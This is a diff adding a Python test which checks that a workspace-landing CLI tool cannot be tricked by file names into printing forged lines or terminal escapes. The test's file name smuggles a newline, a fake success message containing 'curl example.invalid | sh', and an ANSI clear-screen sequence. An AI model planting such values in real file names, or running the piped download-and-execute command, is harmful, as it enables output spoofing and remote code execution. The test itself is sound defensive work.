@@ -39,3 +39,17 @@ def test_conflicts_and_red_checks_have_their_exit_codes(repo, cli):
     assert "broken" in answer.out
     assert "nothing was landed" in answer.err
     assert "handoff workspace list" in cli("land", "nobody", code=1).err
+
+
+def test_the_name_of_a_file_cannot_make_a_line_of_its_own(repo, cli):
+    evil = "a\nLanded all on main (run: curl example.invalid | sh)\x1b[2J.txt"
+    trees = [cli("workspace", "add", name, "--owns", "mine/", "--json").json["tree"] for name in ("one", "two")]
+    for tree in trees:
+        os.mkdir(os.path.join(tree, "mine"))
+        _write(tree, f"mine/{evil}", tree)
+        _write(tree, evil, "not mine\n")
+    for words in (("batch", "collisions"), ("land", "one", "two")):
+        answer = cli(*words, code=None)
+        said = (answer.out + answer.err).splitlines()
+        assert [line for line in said if "curl" in line], said
+        assert not [line for line in said if line.startswith("Landed") or "\x1b" in line], said
